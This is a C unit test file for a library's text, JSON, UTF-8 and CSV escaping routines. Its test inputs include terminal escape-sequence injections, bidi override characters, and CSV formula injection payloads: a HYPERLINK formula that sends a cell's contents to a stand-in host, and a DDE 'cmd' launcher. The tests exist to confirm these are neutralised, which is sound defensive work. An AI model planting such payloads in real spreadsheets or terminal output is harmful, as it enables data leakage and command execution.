/* SPDX-License-Identifier: MIT */
/* Names made safe to show: text escaping, JSON strings, diagnostics (common/escape.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "orrery/common.h"

/* The escaped text of s, checked against the length orr_text_escape() announces. */
static char *text(const char *s)
{
	char *e = orr_text_escape_dup(s);

	assert_int_equal(orr_text_escape(NULL, 0, s), strlen(e));
	return e;
}

static void expect_text(const char *s, const char *want)
{
	char *e = text(s);

	assert_string_equal(e, want);
	assert_true(orr_text_is_plain(s) == (strcmp(s, want) == 0));
	free(e);
}

static char *json(const char *s)
{
	char *buf = NULL;
	size_t size = 0;
	FILE *f = open_memstream(&buf, &size);

	assert_non_null(f);
	orr_json_write_string(f, s);
	assert_int_equal(fclose(f), 0);
	return buf;
}

static void expect_json(const char *s, const char *want)
{
	char *j = json(s);

	assert_string_equal(j, want);
	free(j);
}

static void test_escape_valid_utf8_is_kept(void **state)
{
	expect_text("", "");
	expect_text("aten::mm", "aten::mm");
	expect_text("void at::native::elementwise<float>(int, \"x\")",
		    "void at::native::elementwise<float>(int, \"x\")");
	expect_text("back\\slash", "back\\slash");
	expect_text("\xe7\x9f\xa9\xe9\x98\xb5\xe4\xb9\x98\xe6\xb3\x95",
		    "\xe7\x9f\xa9\xe9\x98\xb5\xe4\xb9\x98\xe6\xb3\x95"); /* CJK */
	expect_text("caf\xc3\xa9 \xc2\xa0 \xf0\x9f\x9a\x80 \xf4\x8f\xbf\xbf",
		    "caf\xc3\xa9 \xc2\xa0 \xf0\x9f\x9a\x80 \xf4\x8f\xbf\xbf");
	expect_text("\xef\xbf\xbd", "\xef\xbf\xbd"); /* U+FFFD itself */
}

static void test_escape_c0_and_del_are_visible(void **state)
{
	expect_text("a\nb", "a\\nb");
	expect_text("a\tb\rc", "a\\tb\\rc");
	expect_text("k\x1b]0;pwned\x07\x1b[2J", "k\\x1b]0;pwned\\x07\\x1b[2J");
	expect_text("\x01\x1f\x7f", "\\x01\\x1f\\x7f");
}

static void test_escape_c1_and_bidi_are_visible(void **state)
{
	expect_text("\xc2\x80", "\\u0080");
	expect_text("a\xc2\x9b"
		    "31m",
		    "a\\u009b31m"); /* CSI */
	expect_text("\xc2\x9f\xc2\xa0", "\\u009f\xc2\xa0");
	expect_text("x\xe2\x80\xa8y\xe2\x80\xa9", "x\\u2028y\\u2029");
	expect_text("\xe2\x80\xae"
		    "abc\xe2\x81\xa9",
		    "\\u202eabc\\u2069");
}

static void test_escape_invalid_utf8_is_replaced(void **state)
{
	expect_text("\xff\xfe", "\\xff\\xfe");
	expect_text("at\xc0\xaf", "at\\xc0\\xaf");               /* overlong '/' */
	expect_text("\xe0\x80\xaf", "\\xe0\\x80\\xaf");          /* overlong, 3 bytes */
	expect_text("\xf0\x80\x80\xaf", "\\xf0\\x80\\x80\\xaf"); /* overlong, 4 bytes */
	expect_text("\xed\xa0\x80", "\\xed\\xa0\\x80");          /* a surrogate */
	expect_text("\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80"); /* past U+10FFFF */
	expect_text("\xf5\x80\x80\x80", "\\xf5\\x80\\x80\\x80");
	expect_text("\x80x", "\\x80x");                                /* a lone continuation */
	expect_text("\xe4\xb8", "\\xe4\\xb8");                         /* truncated at the end */
	expect_text("\xe4\xb8!", "\\xe4\\xb8!");                       /* truncated before ASCII */
	expect_text("\xe4\xb8\xe4\xb8\x80", "\\xe4\\xb8\xe4\xb8\x80"); /* then a valid one */
}

static void test_escape_is_idempotent_and_clean(void **state)
{
	static const char *const names[] = {
		"k\x1b]0;pwned\x07\x1b[2J\nfake line",
		"g\xff\xfe\x1b[2J\x01\"\\\n",
		"\xc2\x85\xe2\x80\xae\xed\xa0\x80\xc0",
		"plain",
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char *once = text(names[i]), *twice = text(once);

		assert_string_equal(once, twice);
		assert_true(orr_text_is_plain(once));
		for (const char *p = once; *p; p += orr_utf8_len(p)) {
			assert_true((unsigned char)*p >= 0x20 && *p != 0x7f);
			assert_int_not_equal(orr_utf8_len(p), 0);
		}
		free(once);
		free(twice);
	}
}

static void test_escape_into_a_small_buffer(void **state)
{
	char buf[8];

	assert_int_equal(orr_text_escape(buf, sizeof(buf),
					 "a\x1b"
					 "bcdefgh"),
			 12);
	assert_string_equal(buf, "a\\x1bbc");
	assert_int_equal(orr_text_escape(buf, 1, "abc"), 3);
	assert_string_equal(buf, "");
	assert_int_equal(orr_text_escape(NULL, 0, "\n"), 2);
}

static void test_escape_json_strings(void **state)
{
	expect_json("aten::mm", "\"aten::mm\"");
	expect_json("\xe7\x9f\xa9\xe9\x98\xb5", "\"\xe7\x9f\xa9\xe9\x98\xb5\"");
	expect_json("say \"hi\"\\", "\"say \\\"hi\\\"\\\\\"");
	expect_json("k\x1b[2J\n\t\x7f", "\"k\\u001b[2J\\u000a\\u0009\\u007f\"");
	expect_json("\xc2\x85\xe2\x80\xa8\xe2\x80\xae", "\"\\u0085\\u2028\\u202e\"");
	expect_json("g\xff\xfe!", "\"g\\ufffd\\ufffd!\"");
	expect_json("\xc0\xaf\xed\xa0\x80\xe4\xb8",
		    "\"\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\"");
}

/* s with its stray bytes replaced, checked against the length announced and for validity. */
static void expect_utf8(const char *s, const char *want)
{
	size_t len = orr_utf8_replace(NULL, 0, s);
	char *buf = malloc(len + 1);

	assert_non_null(buf);
	assert_int_equal(orr_utf8_replace(buf, len + 1, s), len);
	assert_string_equal(buf, want);
	assert_true(orr_utf8_is_valid(buf));
	assert_true(orr_utf8_is_valid(s) == (strcmp(s, want) == 0));
	free(buf);
}

static void test_escape_utf8_replace(void **state)
{
	char small[6];

	expect_utf8("", "");
	expect_utf8("aten::mm \x1b[2J\n", "aten::mm \x1b[2J\n"); /* controls are valid UTF-8 */
	expect_utf8("\xe7\x9f\xa9\xf0\x9f\x9a\x80", "\xe7\x9f\xa9\xf0\x9f\x9a\x80");
	expect_utf8("g\xff\xfe!", "g\xef\xbf\xbd\xef\xbf\xbd!");
	expect_utf8("\xc0\xaf", "\xef\xbf\xbd\xef\xbf\xbd");                 /* overlong */
	expect_utf8("\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* a surrogate */
	expect_utf8("\xe4\xb8", "\xef\xbf\xbd\xef\xbf\xbd"); /* truncated at the end */
	expect_utf8("\xe4\xb8\xe4\xb8\x80", "\xef\xbf\xbd\xef\xbf\xbd\xe4\xb8\x80");
	expect_utf8("\xef\xbf\xbd", "\xef\xbf\xbd");
	/* snprintf-like: cut, NUL-terminated, the whole length returned */
	assert_int_equal(orr_utf8_replace(small, sizeof(small), "ab\xff\xff"), 8);
	assert_string_equal(small, "ab\xef\xbf\xbd");
	assert_int_equal(orr_utf8_replace(small, 1, "abc"), 3);
	assert_string_equal(small, "");
}

static char *csv(const char *s)
{
	char *buf = NULL;
	size_t size = 0;
	FILE *f = open_memstream(&buf, &size);

	assert_non_null(f);
	orr_csv_write_field(f, s);
	assert_int_equal(fclose(f), 0);
	return buf;
}

static void expect_csv(const char *s, const char *want)
{
	char *c = csv(s);

	assert_string_equal(c, want);
	free(c);
}

static void test_escape_csv_cells(void **state)
{
	char big[1000];

	/* plain text and RFC 4180 quoting, as before */
	expect_csv("", "");
	expect_csv("aten::mm", "aten::mm");
	expect_csv("a,b", "\"a,b\"");
	expect_csv("say \"hi\"", "\"say \"\"hi\"\"\"");
	expect_csv("a\nb\rc", "\"a\nb\rc\"");
	/* formulas written as text (OWASP) */
	expect_csv("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
		   "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\"");
	expect_csv("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
	expect_csv("@SUM(1,2)", "\"'@SUM(1,2)\"");
	expect_csv("-x", "'-x");
	expect_csv("-2+3", "'-2+3");
	expect_csv("\t=1+1", "'\t=1+1");
	expect_csv("\r=2+2", "\"'\r=2+2\"");
	expect_csv("=", "'=");
	expect_csv("-inf", "'-inf");
	expect_csv("1e5x", "1e5x");
	expect_csv("a=1", "a=1");
	/* numbers stay numbers */
	expect_csv("-1.5", "-1.5");
	expect_csv("+3", "+3");
	expect_csv("-.5", "-.5");
	expect_csv("-2e-3", "-2e-3");
	expect_csv("-1.", "-1.");
	expect_csv("-", "'-");
	expect_csv("-e5", "'-e5");
	expect_csv("-1e", "'-1e");
	/* bytes that are not UTF-8 */
	expect_csv("g\xff\xfe", "g\xef\xbf\xbd\xef\xbf\xbd");
	expect_csv("=\xff", "'=\xef\xbf\xbd");
	/* control characters as the text output writes them: nothing acts on a terminal */
	expect_csv("k\x1b]0;pwned\x07", "k\\x1b]0;pwned\\x07");
	expect_csv("a\x7f\x01"
		   "b",
		   "a\\x7f\\x01b");
	expect_csv("x\xc2\x9by\xe2\x80\xaez\xe2\x80\xa8", "x\\u009by\\u202ez\\u2028");
	expect_csv("\x1b=1", "\\x1b=1");
	expect_csv("\"\x1b", "\"\"\"\\x1b\"");
	expect_csv("caf\xc3\xa9\tT", "caf\xc3\xa9\tT");
	/* longer than the writer's buffer on the stack */
	memset(big, '"', sizeof(big) - 1);
	big[0] = '=';
	big[sizeof(big) - 1] = '\0';
	{
		char *c = csv(big);

		assert_int_equal(strlen(c), 2 + 1 + 1 + 2 * (sizeof(big) - 2));
		assert_memory_equal(c, "\"'=\"\"", 5);
		free(c);
	}
}

static void test_escape_diag_stays_one_line(void **state)
{
	struct orr_diag d;
	char buf[2048];

	orr_diag_set(&d, ORR_EMALFORMED, "dir/a\nb\x1b[2J.json", 12, -1, "bad name '%s'",
		     "x\ry\xff");
	assert_string_equal(orr_diag_format(&d, ORR_EMALFORMED, buf, sizeof(buf)),
			    "'dir/a\\nb\\x1b[2J.json': malformed input at byte 12: bad name "
			    "'x\\ry\\xff'");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escape_valid_utf8_is_kept),
		cmocka_unit_test(test_escape_c0_and_del_are_visible),
		cmocka_unit_test(test_escape_c1_and_bidi_are_visible),
		cmocka_unit_test(test_escape_invalid_utf8_is_replaced),
		cmocka_unit_test(test_escape_is_idempotent_and_clean),
		cmocka_unit_test(test_escape_into_a_small_buffer),
		cmocka_unit_test(test_escape_json_strings),
		cmocka_unit_test(test_escape_utf8_replace),
		cmocka_unit_test(test_escape_csv_cells),
		cmocka_unit_test(test_escape_diag_stays_one_line),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
